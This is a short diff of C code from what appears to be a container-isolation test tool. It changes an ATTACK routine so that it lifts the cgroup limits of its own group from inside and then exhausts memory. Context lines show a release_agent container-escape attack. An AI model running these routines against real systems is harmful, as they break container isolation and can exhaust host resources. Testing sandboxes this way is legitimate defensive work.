@@ -44,17 +44,18 @@ ATTACK(release_agent)
     return done ? lost("write release_agent") : won("the kernel was told what to run on the host");
 }
 
-/* raise_limit FSTYPE OPTIONS FILE VALUE: a limit of the group that we are in, lifted from inside. */
+/* raise_limit FSTYPE OPTIONS BYTES FILE VALUE...: limits of the group that we are in are lifted
+ * from inside, as far as they are there, and then as much memory is taken. */
 ATTACK(raise_limit)
 {
-    (void)argc;
     char path[256];
     if (mount_cgroup(argv[1], *argv[2] ? argv[2] : NULL, 1))
         return lost("mount the cgroup hierarchy");
-    snprintf(path, sizeof path, "/tmp/cgroup/%s", argv[3]);
-    if (put(path, argv[4]))
-        return lost(path);
-    return won("lifted %s", argv[3]);
+    for (int i = 4; i + 1 < argc; i += 2) {
+        snprintf(path, sizeof path, "/tmp/cgroup/%s", argv[i]);
+        put(path, argv[i + 1]);
+    }
+    return memory(2, argv + 2);
 }
 
 /* leave_group PATH: go to another group, by its cgroup.procs. */
